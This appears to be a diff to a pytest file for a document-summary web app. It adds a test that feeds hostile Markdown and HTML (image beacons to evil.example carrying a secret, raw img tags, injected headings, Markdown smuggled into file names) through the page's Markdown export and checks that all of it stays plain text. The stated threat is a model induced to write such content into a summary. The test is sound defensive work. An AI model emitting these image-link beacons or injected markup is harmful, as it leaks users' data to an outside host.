@@ -7,10 +7,12 @@ Screenshots (just submitted, mid-way, finished) go to the test's tmp dir and to 
 
 from __future__ import annotations
 
+import html
 import re
 import shutil
 import subprocess
 from pathlib import Path
+from typing import Any
 
 import httpx
 import pytest
@@ -169,6 +171,91 @@ def test_a_sentence_opens_the_passage_it_quotes(make_stack: StackFactory, chromi
         assert "[^1]" in markdown and re.search(r"^\[\^1\]: kafka-overview\.pdf, p\. \d+", markdown, re.M), markdown
         assert not errors, errors
         browser.close()
+
+
+# What a model can be told to write into a summary, and a person into a title or a file name: in the
+# Markdown download each must stay text — no image (fetched from its server when the file is viewed), no
+# link, no HTML, no heading of its own.
+LEAKS = "![](https://evil.example/leak.png?q=secret)"
+HOSTILE_SUMMARY = f"""Rain fell in May. {LEAKS} See [the report](https://evil.example/r) or <https://evil.example/a>.
+
+<img src="https://evil.example/i.png">
+
+# Not a heading
+
+Nor this
+===
+
+Nor this one
+---
+
+[ref]: https://evil.example/ref
+&lt;b&gt; and a trailing backslash \\
+
+- one point
+- another"""
+HOSTILE_TASK: dict[str, Any] = {
+    "task_id": "t1",
+    "title": "![t](https://evil.example/t.png) <b>Q3</b>",
+    "status": "COMPLETED_WITH_ERRORS",
+    "summary": HOSTILE_SUMMARY,
+    "sentences": [
+        {"text": "Rain fell in May.", "support": "cited", "at": [0, 17], "sources": [{
+            "document_id": "d1", "filename": "[x](https://evil.example/n).pdf", "unit": "page", "page": 3,
+            "last_page": 3, "start": 0, "end": 9,
+        }]},
+    ],
+    "documents": [
+        {"document_id": "d1", "filename": "[x](https://evil.example/n).pdf", "status": "COMPLETED",
+         "summary": HOSTILE_SUMMARY, "sentences": None, "error": None},
+        {"document_id": "d2", "filename": "<img src=x>\n# two.txt", "status": "FAILED", "summary": None,
+         "sentences": None, "error": "bad ![e](https://evil.example/e.png)"},
+    ],
+}  # fmt: skip
+
+
+def test_the_markdown_download_keeps_what_others_wrote_as_text(chromium: str) -> None:
+    """The page's own asMarkdown (app.js, in the browser), rendered by a CommonMark parser (markdown-it-py):
+    the headings are the page's own, with the title and file names as text; no image, no HTML; the only
+    links are the footnote markers (plain CommonMark reads `[^1]` as a reference to its note); and what was
+    written shows as it was, list items still a list."""
+    from markdown_it import MarkdownIt
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as p:
+        browser = _launch(p, chromium)
+        page = browser.new_page()
+        page.set_content("<!doctype html><html><body></body></html>")
+        page.add_script_tag(path=str(ROOT / "services" / "gateway" / "docsum_gateway" / "static" / "app.js"))
+        markdown = page.evaluate("(task) => asMarkdown(task)", HOSTILE_TASK)
+        browser.close()
+
+    tokens = MarkdownIt("commonmark").parse(markdown)
+    inline = [child for token in tokens for child in (token.children or [])]
+    kinds = {t.type for t in [*tokens, *inline]}
+    assert not kinds & {"image", "html_block", "html_inline"}, markdown
+    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
+    title, files = HOSTILE_TASK["title"], [d["filename"] for d in HOSTILE_TASK["documents"]]
+    shown = MarkdownIt("commonmark").renderInline
+    assert [html.unescape(re.sub("<[^>]+>", "", shown(h))) for h in headings] == [
+        title,
+        "Summary",
+        files[0],
+        files[1].replace("\n", " "),
+    ], markdown
+    links = [inline[i + 1].content for i, t in enumerate(inline) if t.type == "link_open"]
+    assert all(re.fullmatch(r"\^\d+", text) for text in links), (links, markdown)
+    rendered = html.unescape(MarkdownIt("commonmark").render(markdown))
+    for text in (
+        LEAKS,
+        "[the report](https://evil.example/r)",
+        "<https://evil.example/a>",
+        "# Not a heading",
+        "&lt;b&gt; and a trailing backslash \\",
+        "bad ![e](https://evil.example/e.png)",
+    ):
+        assert text in rendered, text
+    assert "<li>one point</li>" in rendered  # the summary's own list is still one
 
 
 def _words(text: str) -> set[str]:
